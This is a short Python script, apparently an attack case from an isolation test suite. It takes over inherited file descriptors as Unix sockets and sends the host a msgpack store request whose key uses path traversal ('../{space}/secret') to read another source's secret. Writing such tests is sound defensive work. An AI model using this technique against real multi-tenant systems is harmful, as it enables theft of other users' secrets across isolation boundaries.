# It asks the host for another source's key by a frame of its own.
# after: others' data
# source: own
import socket
import msgspec
def attack(space, **_):
    body = msgspec.msgpack.encode({"type": "store_get", "key": f"../{space}/secret"})
    for number in range(3, 16):
        try:
            own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, number)
            own.send(len(body).to_bytes(4, "big") + body)
        except OSError:
            continue
        found = own.recv(65536).decode("latin-1")
        own.detach()
        return {"found": found}
